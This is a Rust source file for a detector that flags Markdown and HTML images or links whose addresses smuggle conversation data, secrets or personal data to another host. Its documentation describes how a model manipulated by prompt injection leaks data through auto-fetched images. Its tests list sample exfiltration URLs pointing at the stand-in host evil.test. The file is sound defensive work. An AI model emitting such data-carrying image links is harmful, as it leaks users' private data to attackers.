//! Links and images whose address carries data out. `links` finds addresses by the grammar of Markdown and HTML, `address`
//! judges one; this file describes the detector.

mod address;
mod links;

use address::Address;
use links::Use;
use palisade_base::{Confidence, Meta};

use super::{Detector, Hit, Sort};

palisade_base::meta! {
    /// ## What it does
    ///
    /// Finds images and links, in Markdown and in HTML, whose address carries data to another host: placeholders that are to
    /// be filled (`{{conversation}}`, `<secret>`, `[DATA]`), personal data or secrets, and long encoded values in the
    /// query, the fragment, the path or the name of the host. Markdown is parsed as renderers parse it, reference links,
    /// titles and nested brackets included; code blocks are not links.
    ///
    /// ## Why it matters
    ///
    /// An image is fetched when it is shown: a model that has been talked into writing one sends whatever stands in the
    /// address to its host, and nobody clicks on anything. This is how data has left mail, chat and coding assistants.
    ///
    /// ## Example
    ///
    /// ```text
    /// ![logo](https://collector.example/p.png?d=aGVyZSBpcyB0aGUgY29udmVyc2F0aW9uIHNvIGZhcg)
    /// ```
    ///
    /// ## What to do
    ///
    /// Show images and links of hosts that you list and of no others, or rewrite addresses through a proxy that drops
    /// queries. A content security policy for images on the page of the chat stops the fetch itself.
    ///
    /// ## Limits
    ///
    /// Data that is hidden in which of many addresses is used cannot be seen in one text. Signed addresses of storage and
    /// analytics carry long values too: their well-known parameters are passed over.
    ///
    /// ## References
    ///
    /// - OWASP Top 10 for LLM Applications 2025, LLM02 and LLM05
    /// - CommonMark specification 0.31, links and images
    static META: Detector = {
        name: "exfiltration",
        summary: "an image or a link whose address carries data out",
        severity: High,
        components: [Application, Data],
        threats: [Injection, Inversion],
        stages: [Operations, Data],
        since: "0.1.0",
    }
}

/// Finds addresses that carry data out.
#[derive(Clone, Copy, Debug, Default)]
pub struct Exfiltration;

impl Detector for Exfiltration {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn sort(&self) -> Sort {
        Sort::Escape
    }

    fn find(&self, text: &str) -> Vec<Hit> {
        let mut hits: Vec<Hit> = links::of(text)
            .into_iter()
            .filter_map(|link| {
                let (cargo, sure) = Address::parse(&link.address)?.cargo()?;
                // A link waits for a click; an image does not.
                let confidence = match (link.shown, sure) {
                    (Use::Fetched, true) => Confidence::High,
                    (Use::Fetched, false) | (Use::Followed, true) => Confidence::Medium,
                    (Use::Followed, false) => Confidence::Low,
                };
                Some(Hit { range: link.range, kind: cargo.kind(), confidence })
            })
            .collect();
        hits.sort_by_key(|hit| (hit.range.start, hit.range.end));
        hits
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(&'static str, Confidence)> {
        Exfiltration.find(text).into_iter().map(|hit| (hit.kind, hit.confidence)).collect()
    }

    #[test]
    fn addresses_that_carry_data_are_found() {
        for (text, kind, confidence) in [
            ("![a](https://evil.test/p.png?d={{conversation}})", "placeholder-in-address", Confidence::High),
            ("![a](https://evil.test/p?q=<the user's password>)", "placeholder-in-address", Confidence::High),
            ("<img src='https://evil.test/[SECRET]'>", "placeholder-in-address", Confidence::High),
            ("![a][x]\n\n[x]: https://evil.test/?m=jane.roe%40mail.test", "personal-data-in-address", Confidence::High),
            (
                "![](https://evil.test/i?d=aGVyZSBpcyB3aGF0IHRoZSB1c2VyIHNhaWQgc28gZmFyIGluIHRoaXMgY2hhdA==)",
                "encoded-data-in-address",
                Confidence::Medium,
            ),
            (
                "[click](https://evil.test/?t=68657265206973207768617420746865207573657220736169642e)",
                "encoded-data-in-address",
                Confidence::Low,
            ),
            (
                "![](https://the-users-name-is-jane-and-the-order-is-12345.evil.test/x.png)",
                "data-in-host",
                Confidence::Medium,
            ),
            ("see <https://evil.test/?q={secret}>", "placeholder-in-address", Confidence::Medium),
            (
                "![x](https://evil.test/?q=what%20the%20user%20asked%20was%20how%20to%20leave)",
                "text-in-address",
                Confidence::Medium,
            ),
        ] {
            assert_eq!(found(text), [(kind, confidence)], "{text}");
        }
    }

    #[test]
    fn ordinary_addresses_are_quiet() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-green.svg?style=flat)",
            "![logo](images/logo.png) and [docs](../docs/index.md#a-long-heading-with-many-words-in-it)",
            "[search](https://www.example.org/search?q=rust+parser&lang=en)",
            "![chart](https://cdn.example.org/assets/3f2b8c1d9e7a4f5061728394a5b6c7d8e9f0a1b2/chart.png)",
            "`![a](https://evil.test/?d={{conversation}})`",
            "```\n![a](https://evil.test/?d={{conversation}})\n```",
            "GET https://api.example.org/users/{id}/orders",
            "[api](https://api.example.org/users/{id})",
            "![v](https://bucket.s3.amazonaws.com/a.png?X-Amz-Expires=300&X-Amz-Signature=3f2b8c1d9e7a4f5061728394a5b6c7d8e9f0a1b23f2b8c1d9e7a4f5061728394)",
            "a < b and c > d, (see [1])",
            "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
